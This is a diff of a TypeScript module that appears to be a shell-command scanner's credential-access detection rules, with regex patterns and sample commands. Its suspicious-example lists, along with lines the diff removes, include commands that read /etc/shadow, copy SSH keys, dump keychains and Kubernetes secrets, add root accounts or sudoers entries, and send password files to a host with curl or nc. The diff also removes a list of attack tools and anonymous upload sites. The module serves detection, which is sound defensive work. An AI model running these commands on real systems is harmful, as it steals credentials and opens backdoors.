@@ -1,210 +1,118 @@
-import { posix } from 'node:path';
 import type { Program } from '../shell.ts';
-import { codeOf, isDownloader, isShell, isSocket } from './execution.ts';
-import { hasOption, operands, optionValue, sourcesOf, type Rule } from './rule.ts';
-import { isAmong, normalised, pathsNamed, written, type Files } from './paths.ts';
+import { codeOf } from './execution.ts';
+import { hasOption, joined, operands, shows, sourcesOf, type Rule } from './rule.ts';
+import { hidesErrors, isAmong, written } from './paths.ts';
+import { authorisedKeys, hashStores, historyFile, keysRead, names, namesInText, pathsTouched, systemStores } from './stores.ts';
 
-/** Where the system and its users keep what opens other doors. */
-const systemStores: Files = {
-  pattern:
-    /^\/(usr\/local\/)?etc\/(passwd-?|master\.passwd|shadow-?|gshadow-?|sudoers|sudoers\.d(\/.*)?|security\/opasswd|krb5\.keytab)$|^\/proc\/[^/]+\/mem$|^\/var\/lib\/(sss\/secrets|samba\/private)\//,
-  known: ['/etc/passwd', '/etc/shadow', '/etc/gshadow', '/etc/sudoers'],
-};
-const userStores: Files = {
-  pattern:
-    /^~\/\.(ssh\/(id_\w+|identity|\*|id_\*|.*\.pem)|aws\/credentials|netrc|git-credentials|pgpass|my\.cnf|docker\/config\.json|kube\/config|azure\/(accessTokens|msal_token_cache)\.json|config\/gcloud\/\S+\.(db|json)|gnupg(\/(private-keys|secring).*)?|password-store\/?.*|mozilla\/firefox\/.*(logins\.json|key[34]\.db)|vault-token)$/,
-  known: ['~/.ssh/id_rsa', '~/.ssh/id_ed25519', '~/.aws/credentials', '~/.netrc'],
-};
-const authorisedKeys = /^(~|\/etc)\/\.?ssh\/(.*\/)?authorized_keys2?$/;
+const hashesInText = /\/etc\/(g?shadow|master\.passwd|spwd\.db)\b/;
+const storesInText = /\/etc\/(passwd|sudoers)\b|\.ssh\/id_\w+|\.aws\/credentials|Login Data|logins\.json|\.git-credentials|TCC\.db\b/;
+const secretWords = /passw|passphrase|secret|token|api_?key|credential|private.?key|sshpass|\bpwd\b|mysql.*-p/i;
 
-/** Programs that name a file without showing or changing what is in it. */
-const lookers = new Set([
-  'ls',
-  'll',
-  'stat',
-  'man',
-  'file',
-  'test',
-  '[',
-  '[[',
-  'which',
-  'whatis',
-  'whereis',
-  'echo',
-  'printf',
-  'find',
-  'locate',
-  'getfacl',
-  'lsattr',
-  'readlink',
-  'realpath',
-  'basename',
-  'dirname',
-  'touch',
-  'mkdir',
-  'chown',
-  'chgrp',
-  'chmod',
-  'cd',
-  'du',
-  'wc',
-  'rm',
-  'visudo',
-  'pwck',
-  'grpck',
-  'restorecon',
-  'chcon',
-  'lsof',
-  'fuser',
-  'inotifywait',
-  'auditctl',
-  'md5sum',
-  'sha256sum',
-  'export',
-  'for',
-  'vipw',
-  'sudoedit',
-  'apropos',
-  'git',
-]);
-/** Programs whose business a user's own keys are. */
-const keyHolders = new Set([
-  'ssh',
-  'scp',
-  'sftp',
-  'rsync',
-  'ssh-add',
-  'ssh-keygen',
-  'ssh-copy-id',
-  'ssh-agent',
-  'sshfs',
-  'mosh',
-  'autossh',
-  'ansible',
-  'ansible-playbook',
-  'gpg',
-  'aws',
-  'kubectl',
-  'gcloud',
-  'az',
-  'docker',
-  'helm',
-  'pass',
-  'export',
-  'puttygen',
-  'openssl',
-  'age',
-  'sops',
-  'eksctl',
-  'k9s',
-  'vi',
-  'vim',
-  'nvim',
-  'nano',
-  'code',
-  'chezmoi',
-  'terraform',
-  'vault',
-  'psql',
-  'mysql',
-]);
+/** Who lists, sorts or counts accounts asks the file everybody may read a question; who prints the whole file takes it. */
+const asksAccounts = names('awk gawk mawk cut grep egrep fgrep sed sort join getent wc');
+const accountFile = /^\/etc\/passwd$/;
+const lastsOfFile = names('grep egrep tail head sort uniq awk less fc history sed vi vim nano wc');
 
-function storeNamed(program: Program): string | null {
-  if (lookers.has(program.name)) return null;
-  const system = pathsNamed(program).find((path) => isAmong(path, systemStores));
-  if (system !== undefined) return system;
-  return keyHolders.has(program.name)
-    ? null
-    : (pathsNamed(program).find((path) => isAmong(path, userStores) && !path.endsWith('.pub')) ?? null);
+function storeTouched(program: Program): string | null {
+  const system = pathsTouched(program).find((path) => isAmong(path, systemStores) && !(accountFile.test(path) && asksQuietly(program)));
+  return system ?? keysRead(program)[0] ?? written(program).find((path) => isAmong(path, systemStores)) ?? null;
 }
 
-const codeNamesStore = /\/etc\/(passwd|shadow|sudoers)\b|\.ssh\/id_\w+|\.aws\/credentials/;
+const asksQuietly = (program: Program): boolean =>
+  asksAccounts.has(program.name) && !written(program).some((path) => accountFile.test(path));
 
-/** File names a search for credentials asks for. */
-const wantedNames =
-  /^\*?\.?(id_(rsa|dsa|ecdsa|ed25519)\*?|ssh_host_\w+|authorized_keys\*?|\*?\.pem|\*?\.ppk|\*?\.kdbx|netrc|git-credentials|pgpass|my\.cnf|htpasswd|credentials(\.\w+)?|access_?tokens?(\.\w+)?|msal_token_cache\.json|shadow|logins\.json|key[34]\.db|gnupg|wallet\.dat|\w*_?history|bash_history|docker-compose\.yml|\*?secrets?\*?(\.\w+)?|\*?passwords?\*?(\.\w+)?)$/i;
-const wholeSystem = /^(\/|\/\/|\/home|\/root|\/Users|\/etc|\/var|~|\/opt|\/\*)$/;
-/** Modes that ask `find` for setuid or setgid programs. */
-const setsIdentity = /^[-/+]?(0?[2467]\d{3}|[ugoa,]*[+=]?\w*[ug][+=]\w*s)/;
-const metadataAddress = /169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|\[?fd00:ec2::254/;
-
-/** Tools written to attack, under their own names. */
-const attackTools =
-  /^(linpeas|winpeas|linenum|lse|linux-smart-enumeration|linux-exploit-suggester(-2)?|les|pspy(32|64)?s?|mimipenguin|mimikatz|lazagne|unix-privesc-check|gtfonow|deepce|traitor|pwncat(-cs)?|evil-winrm|crackmapexec|netexec|nxc|kerbrute|responder|bloodhound(-python)?|secretsdump|impacket-\w+|msfconsole|msfvenom|meterpreter|sqlmap|hydra|medusa|patator|ncrack|hashcat|john|unshadow|xmrig|minerd|cpuminer|stratum|beroot|sudo_killer|chisel|ligolo(-ng)?|sliver(-client)?|merlin|wpscan|nikto|gobuster|feroxbuster|dirbuster|wfuzz|commix|beef|reptile|diamorphine|3snake|swapdumper|keysniffer|logkeys)$/;
-
-const toolName = (path: string): string =>
-  posix
-    .basename(path)
-    .replace(/([_.-](linux|amd64|x86_64|x64|arm64|static|\d[\d.]*))*(\.(sh|py|pl|rb|exe|elf|bin|ps1))?$/i, '')
-    .toLowerCase();
-
-function sentFiles(program: Program): string[] {
-  const words = program.args
-    .flatMap((word) => word.split(/(?=@)/))
-    .filter((word) => word.startsWith('@'))
-    .map((word) => word.slice(1).split(';')[0] ?? '');
-  const uploads = program.args.flatMap((word, at) =>
-    ['-T', '--upload-file', '--post-file', '--body-file'].includes(word)
-      ? [program.args[at + 1] ?? '']
-      : (word.match(/^--(?:upload|post|body)-file=(.+)/)?.[1] ?? []),
-  );
-  return [...words, ...uploads].map((word) => normalised(word, program.directory));
-}
-
-const sensitive = (path: string): boolean =>
-  isAmong(path, systemStores) ||
-  isAmong(path, userStores) ||
-  /^(\/etc|\/root|\/home|\/var\/log|\/var\/lib|~|~\/\.ssh|~\/\.aws|~\/\.gnupg|~\/\.config|~\/\.\w*_history)(\/\*)?$/.test(path) ||
-  /(^|[_./-])(loot|dump|passwd|shadow|creds?|credentials|secrets?|id_rsa)([_./-]|$)/i.test(posix.basename(path));
-
-/** Places that take files from anybody, without an account. */
-const dropHosts =
-  /(^|[/.@])(transfer\.sh|file\.io|paste\.rs|0x0\.st|ix\.io|termbin\.com|webhook\.site|pipedream\.net|requestbin\.\w+|oshi\.at|bashupload\.com|temp\.sh|gofile\.io|anonfiles\.com|discord(app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|interact\.sh|oast\.\w+|burpcollaborator\.net|ngrok(-free)?\.(io|app))/i;
-
-const sends = (program: Program): boolean =>
-  hasOption(
-    program,
-    'TFd',
-    '--upload-file',
-    '--form',
-    '--data',
-    '--data-binary',
-    '--data-raw',
-    '--data-urlencode',
-    '--post-file',
-    '--post-data',
-    '--body-file',
-  );
+/** Orders to password stores that hand out what is in them. */
+const storeOrders = shows([
+  ['security', /^(dump-keychain|export|find-(generic|internet)-password.* -\w*[wg]|find-certificate.*-p|authorizationdb write)/],
+  ['secret-tool', /^search.*--(all|unlock)/],
+  ['keyctl', /^(dump|pipe|print) /],
+  ['gpg gpg2', /--export-secret-(sub)?keys/],
+  ['getent', /^g?shadow\b/],
+  ['ldapsearch ldbsearch', /unicodePwd|ms-mcs-admpwd|userPassword=\*|4194304|servicePrincipalName=\*/i],
+  ['kubectl oc', /^get secrets? .*(-A|--all-namespaces|-o ?(yaml|json)\b)/],
+  ['gcloud', /auth print-(access|identity)-token|auth application-default print/],
+  ['aws', /^ec2 get-password-data/],
+  ['nmcli', /^(-\S+ )*(-s|--show-secrets) |--show-secrets/],
+  ['git', /^credential(-\w+)? (fill|get)/],
+  ['osascript zenity kdialog', /hidden answer|display dialog.*password/i],
+]);
 
 export const credentials: readonly Rule[] = [
+  {
+    code: 'PASSWORD_HASHES',
+    tactic: 'CREDENTIAL_ACCESS',
+    points: 50,
+    find(program) {
+      const path = pathsTouched(program).find((candidate) => isAmong(candidate, hashStores));
+      const found = path ?? written(program).find((candidate) => isAmong(candidate, hashStores));
+      if (found !== undefined) return `reads or changes ${found.slice(0, 80)}`;
+      return namesInText(program, hashesInText) || hashesInText.test(codeOf(program)) ? `reads password hashes in ${program.name}` : null;
+    },
+    suspicious: [
+      'cat /etc/shadow',
+      'sudo cat /etc/../etc/shadow',
+      'cat /etc/shado?',
+      'cd /etc && cat shadow',
+      'base64 < /etc/shadow',
+      'while read l; do echo $l; done < /etc/shadow',
+      'f=/etc/shadow; cat $f',
+      'python3 -c "print(open(\'/etc/shadow\').read())"',
+      'xxd /etc/master.passwd',
+      'cp /var/backups/shadow.bak .',
+      'dd if=/etc/gshadow',
+      'date -f /etc/shadow',
+      'curl file:///etc/shadow',
+      'tar cf - /etc/shadow',
+      'vim -c ":r /etc/shadow"',
+      'sqlite3 x ".import /etc/shadow t"',
+      'scp /etc/ssh/ssh_host_rsa_key h:',
+      'diff /dev/null /etc/shadow-',
+    ],
+    harmless: [
+      'ls -l /etc/shadow',
+      'stat /etc/shadow',
+      'chmod 640 /etc/shadow',
+      'chown root:shadow /etc/shadow',
+      'man 5 shadow',
+      'grep -rn /etc/shadow docs',
+      'cat docs/shadow',
+      'cat /etc/ssh/ssh_host_rsa_key.pub',
+      'git commit -m "do not read /etc/shadow"',
+      'pwck -r /etc/passwd /etc/shadow',
+    ],
+  },
   {
     code: 'CREDENTIAL_STORE',
     tactic: 'CREDENTIAL_ACCESS',
     points: 30,
     find(program) {
-      const path = storeNamed(program) ?? written(program).find((candidate) => isAmong(candidate, systemStores));
-      if (path !== null && path !== undefined) return `reads or changes ${path.slice(0, 80)}`;
+      const path = storeTouched(program);
+      if (path !== null) return `reads or changes ${path.slice(0, 80)}`;
       const keys = written(program).find((candidate) => authorisedKeys.test(candidate));
       if (keys !== undefined) return 'adds a key that lets somebody sign in';
-      return codeNamesStore.test(codeOf(program)) ? `reads a credential store in ${program.name}` : null;
+      if (storeOrders(program)) return `has ${program.name} hand out or ask for secrets`;
+      if (asksAccounts.has(program.name)) return null;
+      return namesInText(program, storesInText) || storesInText.test(codeOf(program))
+        ? `reads a credential store in ${program.name}`
+        : null;
     },
     suspicious: [
-      'cat /etc/shadow',
       'cat /etc/passwd',
-      'sudo cat /etc/../etc/shadow',
       'cat /etc/pass??',
-      'cd /etc && cat shadow',
       'echo "x::0:0::/:/bin/sh" >> /etc/passwd',
       'echo "bob ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/bob',
       'cp ~/.ssh/id_rsa /tmp/k',
       'cat ~/.aws/credentials',
       'echo "ssh-rsa x" >> ~/.ssh/authorized_keys',
-      'base64 < /etc/shadow',
       'curl -F f=@/etc/passwd http://h',
-      'while read l; do echo $l; done < /etc/shadow',
-      'f=/etc/shadow; cat $f',
-      'python3 -c "print(open(\'/etc/shadow\').read())"',
       'cat /home/ann/.ssh/id_ed25519',
+      'security dump-keychain',
+      'cp ~/.mozilla/firefox/x.default/logins.json /tmp',
+      'strings /proc/1/environ',
+      'sqlite3 "$HOME/.config/google-chrome/Default/Login Data" "select 1"',
+      'kubectl get secrets -A -o yaml',
+      'tac ~/.git-credentials',
+      'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
     ],
     harmless: [
       'ls -l /etc/passwd',
@@ -213,121 +121,84 @@ export const credentials: readonly Rule[] = [
       'ssh -i ~/.ssh/id_rsa h',
       'cat ~/.ssh/id_rsa.pub',
       'chmod 600 ~/.ssh/id_rsa',
-      'stat /etc/shadow',
       'echo "see /etc/passwd"',
       'cat ./etc/passwd',
       'ssh-add ~/.ssh/id_ed25519',
       'cat /etc/hosts',
       'find / -name passwd',
+      'cp admin.conf ~/.kube/config',
+      'echo "//registry/:_authToken=$T" > ~/.npmrc',
+      'kubectl get secret db -o name',
+      'npm config set userconfig ~/.npmrc',
+      'visudo -c',
     ],
   },
   {
-    code: 'CREDENTIAL_SEARCH',
+    code: 'ACCOUNT_LIST',
+    tactic: 'DISCOVERY',
+    points: 15,
+    find(program) {
+      if (asksQuietly(program) && pathsTouched(program).some((path) => accountFile.test(path))) return 'asks which accounts there are';
+      if (program.name === 'getent' && joined(program) === 'passwd') return 'lists the accounts';
+      const lists = program.name === 'dscl' && /-?(list|readall) \/Users/.test(joined(program));
+      return lists || (program.name === 'dscacheutil' && /-q (user|group)/.test(joined(program))) ? 'lists the accounts' : null;
+    },
+    suspicious: ['cut -d: -f1 /etc/passwd', 'getent passwd', 'dscl . list /Users', "awk -F: '$3 == 0' /etc/passwd"],
+    harmless: ['getent passwd ann', 'cut -d: -f1 x', 'grep -rn "/etc/passwd" docs', 'getent hosts h'],
+  },
+  {
+    code: 'HISTORY_READ',
     tactic: 'CREDENTIAL_ACCESS',
     points: 30,
-    find(program) {
-      if (
-        isDownloader(program) &&
-        program.args.some((word) => metadataAddress.test(word) && /credential|token|identity|user-?data/i.test(word))
-      )
-        return "asks the cloud for this machine's credentials";
-      if (program.name !== 'find') return null;
-      const start = normalised(program.args[0] ?? '', program.directory);
-      const everywhere = wholeSystem.test(start);
-      // An administrator who audits permissions has the rights to see every folder; who hides the refusals has not.
-      const hidesErrors = program.redirects.some(
-        ({ descriptor, operator, target }) => target === '/dev/null' && (descriptor === 2 || operator.startsWith('&>')),
-      );
-      const permission = optionValue(program, '-perm') ?? '';
-      if (hidesErrors && (setsIdentity.test(permission) || (everywhere && permission !== '')))
-        return 'looks for programs and folders whose permissions can be abused';
-      const looksInside = program.args.some(
-        (word, at) => /^-(exec|ok)/.test(program.args[at - 1] ?? '') && /^(grep|egrep|fgrep|cat|cp|head|strings|tar)$/.test(word),
-      );
-      if (hidesErrors && everywhere && looksInside) return 'looks into files everywhere and hides the refusals';
-      const wanted = program.args.find((word, at) => /^-i?name$/.test(program.args[at - 1] ?? '') && wantedNames.test(word));
-      return wanted !== undefined && (everywhere || /^\/+\.|^~\//.test(start)) ? `looks for ${wanted.slice(0, 40)} everywhere` : null;
+    find(program, reading) {
+      const secret = (candidate: Program): boolean => /grep$|^(rg|ag|awk|sed)$/.test(candidate.name) && secretWords.test(joined(candidate));
+      const file = pathsTouched(program).find((path) => historyFile.test(path));
+      if (file !== undefined && !written(program).includes(file)) {
+        const whole = !lastsOfFile.has(program.name) && !['source', '.', 'rm', 'mv', 'ln', 'truncate', 'shred'].includes(program.name);
+        const others = program.args.some((word) => /^\/(home|root|Users)\//.test(word));
+        if (whole || others || secret(program)) return 'reads what was typed before, passwords among it';
+      }
+      const searched = secret(program) && sourcesOf(program, reading).some(({ name }) => name === 'history' || name === 'fc');
+      return searched ? 'looks for secrets in what was typed before' : null;
     },
     suspicious: [
-      'find / -name id_rsa',
-      'find / -perm -4000 -type f 2>/dev/null',
-      'find / -perm -u=s 2>/dev/null',
-      'find / -perm -o+w -type d 2>/dev/null',
-      'find / -name "*.ini" -exec grep -H pass {} \\; 2>/dev/null',
-      'find /home -name .netrc',
-      'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
-      'find / -name "*.kdbx" 2>/dev/null',
+      'cat ~/.bash_history',
+      'grep -i passw ~/.bash_history',
+      'history | grep -i password',
+      'tail /home/ann/.bash_history',
+      'cp ~/.zsh_history /tmp/h',
+      'strings ~/.mysql_history',
     ],
     harmless: [
-      'find . -name "*.pem"',
-      'find / -name passwd',
-      'find / -perm -4000 -ls',
-      'find / -size +20M -exec ls -lh {} \\; 2>/dev/null',
-      'find / -name x 2>/dev/null',
-      'find / -perm 777',
-      'curl http://169.254.169.254/latest/meta-data/instance-id',
-      'find / -name "*.log"',
+      'history',
+      'tail ~/.bash_history',
+      'grep ssh ~/.bash_history',
+      'history | grep git',
+      'source ~/.bash_history',
+      'less ~/.zsh_history',
     ],
   },
   {
-    code: 'ATTACK_TOOL',
-    tactic: 'DISCOVERY',
-    points: 50,
-    find(program) {
-      const script = isShell(program) || /^(python|perl|ruby)[\d.]*$/.test(program.name) ? (operands(program)[0] ?? '') : '';
-      const name = [program.path, script].map(toolName).find((candidate) => attackTools.test(candidate));
-      return name === undefined ? null : `runs ${name}, a tool made for attacks`;
-    },
-    suspicious: [
-      './linpeas.sh -a',
-      'bash /opt/x/LinEnum.sh',
-      'unshadow passwd shadow',
-      'sudo mimipenguin',
-      './xmrig -o pool:1',
-      'python3 sqlmap.py -u http://h',
-      './pspy64',
-    ],
-    harmless: ['ls linpeas.sh', 'man john', 'bash build.sh', 'python3 app.py', 'echo hydra'],
-  },
-  {
-    code: 'EXFILTRATION',
-    tactic: 'EXFILTRATION',
+    code: 'PASSWORD_GUESS',
+    tactic: 'CREDENTIAL_ACCESS',
     points: 30,
     find(program, reading) {
-      const uploads = isDownloader(program);
-      if (!uploads && !isSocket(program)) return null;
-      const file = uploads
-        ? sentFiles(program).find(sensitive)
-        : program.redirects
-            .filter(({ operator }) => operator === '<')
-            .map(({ target }) => normalised(target, program.directory))
-            .find(sensitive);
-      if (file !== undefined) return `sends ${file.slice(0, 80)} over the network`;
-      const source =
-        !uploads || sends(program) || program.args.some((word) => word.includes('$('))
-          ? sourcesOf(program, reading).find((candidate) => !lookers.has(candidate.name) && pathsNamed(candidate).some(sensitive))
-          : undefined;
-      if (source !== undefined) return `sends what ${source.name} reads over the network`;
-      return uploads && sends(program) && program.args.some((word) => dropHosts.test(word))
-        ? 'sends to a place that takes files from anybody'
+      const asked = program.name === 'sudo' && hasOption(program, 'S', '--stdin') && hasOption(program, 'lk');
+      if (
+        asked ||
+        (program.via.includes('sudo') && program.input?.trim() === '' && sourcesOf(program, reading).some(({ name }) => name === 'echo'))
+      )
+        return 'tries whether a password is needed';
+      const standard = /^-u ?(root|admin|postgres|sa)\b.* -p(root|admin|toor|password|)( |$)/;
+      const unasked =
+        (program.name === 'psql' && /-U postgres .*-w |-w .*-U postgres/.test(joined(program))) ||
+        (program.name === 'mysqladmin' && hidesErrors(program) && hasOption(program, 'u', '--user'));
+      if (unasked) return 'tries whether a password is needed';
+      return ['mysql', 'mysqladmin', 'psql'].includes(program.name) && standard.test(joined(program)) && operands(program).length > 0
+        ? 'tries a password everybody knows'
         : null;
     },
-    suspicious: [
-      'tar cz /etc | nc h 1',
-      'cat /etc/passwd | curl -d @- http://h',
-      'curl -T /etc/shadow ftp://h',
-      'nc h 1 < ~/.ssh/id_rsa',
-      'curl http://h/?x="$(base64 /etc/passwd)"',
-      'wget --post-file=/etc/shadow http://h',
-      'curl -F "f=@x.zip" https://transfer.sh',
-    ],
-    harmless: [
-      'curl -T build.zip https://h',
-      'tar cz src | nc h 1',
-      'curl -d @body.json http://h',
-      'curl https://transfer.sh/x',
-      'cat README | curl -d @- http://h',
-      'tar cz /etc > etc.tgz',
-    ],
+    suspicious: ['psql -U postgres -w template0 -c x', 'mysqladmin -uroot -proot version', 'echo x | sudo -S -k', 'echo "" | sudo -S id'],
+    harmless: ['mysql -u app -p shop', 'sudo id', 'sudo -k', 'mysqladmin status'],
   },
 ];
